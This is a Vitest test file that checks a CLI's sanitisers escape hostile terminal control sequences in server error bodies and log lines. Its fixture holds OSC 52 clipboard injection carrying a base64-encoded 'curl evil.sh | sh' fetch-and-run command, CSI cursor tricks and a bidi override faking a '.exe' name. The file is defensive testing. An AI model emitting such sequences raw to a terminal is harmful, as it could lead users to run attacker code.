import { describe, expect, it } from 'vitest'
import type { EventLog } from '../../src/lib/api-types.js'
import { jsonText } from '../../src/lib/base-command.js'
import { colorsFor } from '../../src/lib/colors.js'
import { LogPrinter, renderLogLine } from '../../src/lib/log-line.js'
import { terminalDocument, terminalJson, terminalText } from '../../src/lib/terminal-text.js'

// What a hostile server put in its error body: OSC 52 (set the clipboard), CSI (clear the
// line, move the cursor up), a C1 CSI, and a right-to-left override.
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'
const CSI = '\u001b[2K\u001b[1A'
const hostile = `boom${OSC52}${CSI}\u009b31m\u202etxt.exe`

/** Every character a terminal would act on, when written raw. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/

describe('terminalText', () => {
  it('escapes ESC, BEL, C1 controls and bidi overrides into visible text', () => {
    const safe = terminalText(hostile)
    expect(safe).toBe('boom\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2K\\x1b[1A\\x9b31m\\u202etxt.exe')
    expect(safe).not.toMatch(RAW_CONTROL)
  })

  it('escapes newlines and tabs on one line, keeps them in a multi-line message', () => {
    expect(terminalText('a\nb\tc\rd')).toBe('a\\nb\\tc\\rd')
    expect(terminalText('a\nb\tc\rd\u001b', { multiline: true })).toBe('a\nb\tc\\rd\\x1b')
  })

  it('leaves ordinary text, accents and emoji alone', () => {
    const text = 'Déploiement réussi ✓ 🚀 — "ok" \\ done'
    expect(terminalText(text)).toBe(text)
  })
})

describe('terminalJson', () => {
  it('is valid JSON with the same value, and no raw control character', () => {
    const value = { error: hostile, nested: ['\u2028', '\u0085'] }
    const text = terminalJson(value, 2)
    expect(text).not.toMatch(RAW_CONTROL)
    expect(JSON.parse(text)).toEqual(value)
    expect(jsonText(value)).toBe(text)
  })
})

describe('terminalDocument', () => {
  it('escapes a document for a terminal, and leaves it exact for a file or a pipe', () => {
    const yaml = `error: "x\u009by"\nname: \u202eabc\n`
    expect(terminalDocument(yaml, { isTTY: true })).toBe('error: "x\\x9by"\nname: \\u202eabc\n')
    expect(terminalDocument(yaml, { isTTY: false })).toBe(yaml)
  })
})

describe('log lines', () => {
  const event: EventLog = {
    id: 'e1',
    area: `relay${CSI}`,
    status: 'failed',
    detectedAt: '2026-12-04T01:00:00.000Z',
    deliveryId: 'd1',
    attempts: 1,
    error: `reaction "r1" failed: POST http://x answered 400: ${hostile}`,
    executions: [{ ref: 'r1', status: 'failed', errorText: hostile }],
  } as unknown as EventLog

  it('keep our colours and escape the remote text', () => {
    const c = colorsFor({ isTTY: true }, {})
    const line = renderLogLine(event, c)
    // Our own styling is there (red for the error)…
    expect(line).toContain('\u001b[31m')
    // …and none of theirs: with our SGR codes taken out, nothing raw is left.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: our own SGR codes
    const withoutOurs = line.replace(/\u001b\[(?:2|22|31|39)m/g, '')
    expect(withoutOurs).not.toMatch(RAW_CONTROL)
    expect(withoutOurs).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07')
    expect(withoutOurs).toContain('relay\\x1b[2K\\x1b[1A')
  })

  it('as JSON lines stay JSON holding the exact text', () => {
    const line = new LogPrinter(colorsFor({}, {}), true).line(event) ?? ''
    expect(line).not.toMatch(RAW_CONTROL)
    expect(JSON.parse(line)).toEqual(event)
  })
})
